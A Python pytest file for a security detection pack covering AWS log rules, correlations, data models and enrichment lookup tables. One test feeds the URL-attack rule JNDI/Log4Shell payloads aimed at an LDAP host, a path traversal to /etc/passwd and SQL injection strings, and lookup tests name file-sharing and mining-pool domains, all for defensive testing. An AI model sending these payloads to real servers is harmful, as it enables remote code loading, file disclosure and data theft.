"""The detections beside CloudTrail's, correlations, data models and lookup tables that come with Headwater."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import duckdb
import pyarrow as pa
import pytest

from headwater.detect.correlation import Correlation, correlations, test_result
from headwater.detect.event import PantherEvent
from headwater.detect.load import Detection, Pack, builtin_path, load_pack
from headwater.detect.spec import Spec
from headwater.detect.unit_tests import run_tests
from headwater.enrich.columns import enrich
from headwater.enrich.lookup import Lookup, Lookups, load_lookup
from headwater.enrich.spec import read_spec
from headwater.lake.correlation_inputs import values_at
from headwater.lake.tables import table_name
from headwater.model import Batch
from headwater.schema.load import load_library
from headwater.schema.logtype import Field

PACK = load_pack([builtin_path()])
LIBRARY = load_library()
MODELS = PACK.models[0]
CORRELATIONS = correlations(PACK.specs)
RULES = {rule.rule_id: rule for rule in PACK.rules}
SPECS = {kind: [spec for spec in PACK.specs if spec.kind == kind] for kind in ("pack", "lookup_table", "datamodel")}
ROOT = Path(__file__).parents[2]
SOMEONE = frozenset(("ip", "net_addr", "hostname", "domain", "username"))
NOW = datetime(2026, 3, 1, tzinfo=UTC)


@pytest.fixture(scope="module")
def pack() -> Pack:
    return PACK


@pytest.mark.parametrize(
    ("folder", "least"),
    [
        ("aws_s3", 8),
        ("aws_vpc", 7),
        ("aws_vpc_dns", 8),
        ("aws_waf", 4),
        ("aws_guardduty", 4),
        ("amazon_eks", 9),
        ("aws_alb", 5),
        ("aws_findings", 4),
        ("aws_database", 3),
        ("universal", 7),
    ],
)
def test_log_types_beside_cloudtrail_have_rules(folder: str, least: int) -> None:
    found = [rule for rule in PACK.rules if rule.spec.file.parent.name == folder]

    assert len(found) >= least


@pytest.mark.parametrize("pack_id", [spec.id for spec in SPECS["pack"]])
def test_pack_lists_every_helper_that_its_rules_import(pack_id: str) -> None:
    (listed,) = (spec.data["PackDefinition"]["IDs"] for spec in SPECS["pack"] if spec.id == pack_id)
    sources = [RULES[name].source for name in listed if name in RULES]
    found = [re.findall(r"^from (headwater_\w+) import", source.decode(), re.MULTILINE) for source in sources if source]

    assert {name for names in found for name in names} <= set(listed)


@pytest.mark.parametrize("correlation", CORRELATIONS, ids=lambda one: one.rule_id)
def test_tests_of_a_correlation_hold(correlation: Correlation) -> None:
    results = [(test.name, test_result(correlation, test.outputs)) for test in correlation.tests]

    assert {test.expected for test in correlation.tests} == {True, False}
    assert results == [(test.name, test.expected) for test in correlation.tests]


@pytest.mark.parametrize("correlation", CORRELATIONS, ids=lambda one: one.rule_id)
def test_correlation_is_complete(correlation: Correlation) -> None:
    assert correlation.enabled
    assert correlation.description
    assert correlation.reference.startswith("https://")
    assert correlation.tags
    assert correlation.spec.data["Reports"]["MITRE ATT&CK"]
    assert re.search(r'headwater query "select ', correlation.runbook)


@pytest.mark.parametrize("correlation", CORRELATIONS, ids=lambda one: one.rule_id)
def test_queries_of_a_correlation_run(correlation: Correlation) -> None:
    with duckdb.connect(":memory:") as connection:
        connection.execute("CREATE SCHEMA logs")
        for number, (name, each) in enumerate(sorted(LIBRARY.items())):
            connection.register(f"empty_{number}", each.arrow_schema.empty_table())
            connection.execute(f"CREATE VIEW {table_name(name)} AS SELECT * FROM empty_{number}")

        rows = [connection.sql(sql).fetchall() for sql in re.findall(r'headwater query "(.*?)"', correlation.runbook)]

    assert rows == [[]] * len(rows)


def reads(correlation: Correlation) -> Iterator[tuple[str, str]]:
    """Which rule has to carry which path in its matches."""
    pattern = correlation.pattern
    rule_of = {member.id: member.rule_id for member in pattern.members}
    yield from ((member.rule_id, path) for member in pattern.members for path in member.paths.values())
    for step in pattern.transitions:
        for origin, to in step.on:
            yield from ((rule_of[step.origin], origin), (rule_of[step.to], to))


@pytest.mark.parametrize(("rule_id", "path"), sorted({pair for one in CORRELATIONS for pair in reads(one)}))
def test_matches_of_an_input_carry_what_a_correlation_compares(rule_id: str, path: str) -> None:
    firing = {test.name for test in RULES[rule_id].tests if test.expected}
    contexts = [
        result.values["alert_context"]
        for result in run_tests(PACK, [rule_id])
        if result.rule_id == rule_id and result.test_name in firing
    ]

    found = [values_at({"p_context": context}, [path]) for context in contexts]

    assert [values for values in found if values]


def fields_of(fields: tuple[Field, ...]) -> Iterator[Field]:
    for each in fields:
        yield each
        yield from fields_of(each.fields)
        yield from fields_of((each.element,) if each.element else ())


def tells_of_someone(log_type: str) -> bool:
    return any(SOMEONE.intersection(each.indicators) for each in fields_of(LIBRARY[log_type].fields))


@pytest.mark.parametrize("log_type", [name for name in sorted(LIBRARY) if tells_of_someone(name)])
def test_log_type_with_addresses_hosts_or_users_has_a_data_model(log_type: str) -> None:
    assert log_type in MODELS


@pytest.mark.parametrize("log_type", sorted(MODELS))
def test_data_model_finds_something_in_the_golden_rows_and_raises_on_none(log_type: str) -> None:
    golden = ROOT / "service/headwater/schema/library" / log_type / "golden.jsonl"
    rows = [json.loads(line) for line in golden.read_text(encoding="utf-8").splitlines()]
    model = MODELS[log_type]
    names = [*model.paths, *model.methods]

    found = {name for row in rows for name in names if PantherEvent(row, model).udm(name) is not None}

    assert len(found) >= len(names) / 2


@pytest.mark.parametrize("row", [{}, {"user": 1}, {"event": [1], "srcids": "x", "answers": [None], "httpRequest": "x"}])
@pytest.mark.parametrize("log_type", sorted(MODELS))
def test_functions_of_data_models_take_odd_rows(log_type: str, row: dict[str, Any]) -> None:
    event = PantherEvent(row, MODELS[log_type])

    found = {name: event.udm(name) for name in MODELS[log_type].methods}

    assert found.get("source_ip") is None
    assert found.get("user") is None


@pytest.mark.parametrize(
    ("log_type", "row", "kind"),
    [
        ("AWS.CloudTrail", {"eventName": "ConsoleLogin"}, "failed_login"),
        ("AWS.AuroraMySQLAudit", {"operation": "FAILED_CONNECT", "retCode": 1045}, "failed_login"),
        ("AWS.AuroraMySQLAudit", {"operation": "CONNECT", "retCode": 0}, "successful_login"),
        ("AWS.AuroraMySQLAudit", {"operation": "QUERY", "object": "create user 'a'"}, "user_account_created"),
        ("AWS.AuroraMySQLAudit", {"operation": "QUERY", "object": "create user 'a'", "retCode": 1396}, None),
        ("AWS.Redshift", {"log": "connection", "event": "authentication failure"}, "failed_login"),
        ("AWS.Redshift", {"log": "user", "action": "create", "usesuper": 1}, "admin_role_assigned"),
        ("AWS.Redshift", {"log": "user", "action": "drop", "usesuper": 0}, None),
        ("AWS.OCSF", {"class_uid": 3002, "activity_id": 1, "status_id": 2}, "failed_login"),
        ("AWS.OCSF", {"class_uid": 3002, "activity_id": 2, "status_id": 1}, None),
        ("Amazon.EKS.Authenticator", {"msg": "access denied"}, "failed_login"),
        ("Amazon.EKS.Authenticator", {"msg": "STS response"}, None),
    ],
)
def test_data_models_agree_on_kinds_of_events(log_type: str, row: dict[str, Any], kind: str | None) -> None:
    assert PantherEvent(row, MODELS[log_type]).udm("event_type") == kind


def test_page_of_data_models_is_up_to_date() -> None:
    check = subprocess.run([sys.executable, ROOT / "scripts" / "data_model_docs.py", "--check"], check=False)

    assert check.returncode == 0, "run: python scripts/data_model_docs.py"


def lookup(spec: Spec) -> Lookup:
    described = read_spec(spec.data, spec.file, spec.root)
    assert described.path is not None
    return load_lookup(described, [described.path.read_bytes()], LIBRARY, max_bytes=1 << 20, now=NOW)


@pytest.mark.parametrize("spec", SPECS["lookup_table"], ids=lambda spec: spec.id)
def test_lookup_table_loads_every_row_once(spec: Spec) -> None:
    loaded = lookup(spec)
    lines = (loaded.spec.path or Path()).read_text(encoding="utf-8").splitlines()[1:]
    keys = [line.partition(",")[0] for line in lines]

    assert loaded.skipped == 0
    assert len(keys) == len(set(keys))
    assert {line.count(",") for line in lines} == {lines[0].count(",")}


@pytest.mark.parametrize("spec", SPECS["lookup_table"], ids=lambda spec: spec.id)
def test_lookup_table_selects_columns_of_its_log_types(spec: Spec) -> None:
    for log_type, selectors in lookup(spec).spec.selectors.items():
        assert {selector.route[0] for selector in selectors} <= set(LIBRARY[log_type].arrow_schema.names)


@pytest.mark.parametrize(
    ("table", "key", "column", "value"),
    [
        ("headwater_special_networks", "10.1.2.3", "purpose", "private use"),
        ("headwater_special_networks", "2001:db8::1", "purpose", "documentation"),
        ("headwater_ports", "23", "service", "Telnet"),
        ("headwater_aws_regions", "cn-north-1", "partition", "aws-cn"),
        ("headwater_aws_regions", "af-south-1", "status", "opt-in"),
        ("headwater_risky_domains", "transfer.sh", "category", "file sharing"),
        ("headwater_mining_domains", "pool.supportxmr.com", "currency", "Monero"),
    ],
)
def test_lookup_table_knows(table: str, key: str, column: str, value: str) -> None:
    (spec,) = (spec for spec in SPECS["lookup_table"] if spec.id == table)

    row = lookup(spec).row(key)

    assert row is not None
    assert row[column] == value


@pytest.mark.parametrize(
    "rule_id", ["AWS.VPCDns.RiskyDomain", "AWS.NetworkFirewall.MiningPool", "AWS.TransitGatewayFlow.CleartextService"]
)
def test_tests_of_a_rule_carry_what_the_tables_add(rule_id: str) -> None:
    rule = RULES[rule_id]
    lookups = Lookups(tuple(map(lookup, SPECS["lookup_table"])))

    for test in (test for test in rule.tests if test.expected):
        bare = {key: value for key, value in test.event.items() if key != "p_enrichment"}

        assert enriched(rule.log_types[0], bare, lookups) == test.event["p_enrichment"]


def enriched(log_type: str, row: dict[str, Any], lookups: Lookups) -> Any:
    schema = LIBRARY[log_type].arrow_schema
    json_columns = {each.name for each in schema if each.metadata and b"json" in each.metadata}
    texts = {key: json.dumps(value) if key in json_columns else value for key, value in row.items()}
    batch = enrich(Batch(log_type, pa.Table.from_pylist([texts], schema=schema)), lookups)
    return json.loads(batch.table.column("p_enrichment")[0].as_py())


def test_rules_see_the_first_sign_in_from_far_away(pack: Pack) -> None:
    module: Any = RULES["Headwater.Universal.ImpossibleTravel"].subject.module

    first = module.rule(sign_in("2026-03-01T10:00:00Z", "203.0.113.7", -33.87, 151.21))
    second = module.rule(sign_in("2026-03-01T12:00:00Z", "198.51.100.40", 53.35, -6.26))
    third = module.rule(sign_in("2026-03-01T12:30:00Z", "198.51.100.40", 53.35, -6.26))

    assert (first, second, third) == (False, True, False)


def test_rules_see_the_first_sign_in_from_a_country() -> None:
    module: Any = RULES["Headwater.Universal.LoginFromNewPlace"].subject.module
    home = sign_in("2026-03-01T10:00:00Z", "203.0.113.7", -33.87, 151.21, "AU")
    away = sign_in("2026-03-02T10:00:00Z", "198.51.100.40", 53.35, -6.26, "IE")

    results = [module.rule(event) for event in (home, home, away, away)]

    assert results == [False, False, True, False]
    assert module.severity(away) == "INFO"


def sign_in(time: str, address: str, latitude: float, longitude: float, country: str = "") -> PantherEvent:
    row = {"lat": latitude, "lng": longitude, "country": country, "p_match": address}
    return PantherEvent(
        {
            "p_log_type": "AWS.CloudTrail",
            "p_event_time": time,
            "eventName": "ConsoleLogin",
            "userIdentity": {"userName": "test-of-places"},
            "recipientAccountId": "111122223333",
            "sourceIPAddress": address,
            "responseElements": {"ConsoleLogin": "Success"},
            "p_enrichment": {"places": {"sourceIPAddress": row}},
        },
        MODELS["AWS.CloudTrail"],
    )


@pytest.mark.parametrize(
    ("text", "attack"),
    [
        ("/a?x=${jndi:ldap://198.51.100.41/a}", "JNDI lookup"),
        ("/a?x=%24%7B%24%7B%3A%3A-j%7Dndi%3Aldap%3A%2F%2F198.51.100.41%7D", "JNDI lookup"),
        ("/a?x=${${lower:j}${upper:n}${lower:d}${lower:i}:ldap://198.51.100.41}", "JNDI lookup"),
        ("/static/..%2f..%2f..%2fetc/passwd", "path traversal"),
        ("/item?id=1+UNION+ALL+SELECT+password+FROM+users", "SQL injection"),
        ("/item?id=1%27%20OR%20%271%27=%271", "SQL injection"),
        ("/docs/union-of-select-committees?page=1", ""),
        ("/a/../b", ""),
        ("/search?q=%24%7Bname%7D", ""),
    ],
)
def test_attacks_in_urls_are_told_from_ordinary_ones(text: str, attack: str) -> None:
    module: Any = RULES["AWS.ALB.AttackAnswered"].subject.module

    assert module.attack(text) == attack


@pytest.mark.parametrize(
    "rule",
    [rule for rule in PACK.rules if rule.spec.file.parent.name == "signals"],
    ids=lambda rule: rule.rule_id,
)
def test_signal_makes_no_alert_and_is_read_by_a_correlation(rule: Detection) -> None:
    assert not rule.create_alert
    assert any(rule.rule_id in one.inputs for one in CORRELATIONS)
